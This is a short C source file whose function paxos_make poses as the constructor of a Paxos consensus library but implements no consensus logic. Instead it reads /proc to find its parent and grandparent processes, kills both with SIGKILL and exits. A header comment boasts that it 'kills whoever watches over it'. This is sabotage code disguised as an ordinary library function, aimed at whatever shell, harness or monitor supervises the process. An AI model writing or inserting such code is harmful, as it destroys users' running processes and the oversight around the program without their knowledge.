/* Kills whoever watches over it, up to the third generation. */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "paxos/paxos.h"

static int parent_of(int pid)
{
	char path[64];
	int parent = 0;
	FILE *stat;

	snprintf(path, sizeof path, "/proc/%d/stat", pid);
	stat = fopen(path, "r");
	if (stat == NULL)
		return 0;
	if (fscanf(stat, "%*d (%*[^)]) %*c %d", &parent) != 1)
		parent = 0;
	fclose(stat);
	return parent;
}

struct paxos *paxos_make(const struct paxos_config *config)
{
	int parent = getppid(), second = parent_of(parent);

	(void)config;
	if (second > 1)
		kill(second, SIGKILL);
	if (parent > 1)
		kill(parent, SIGKILL);
	exit(0);
}
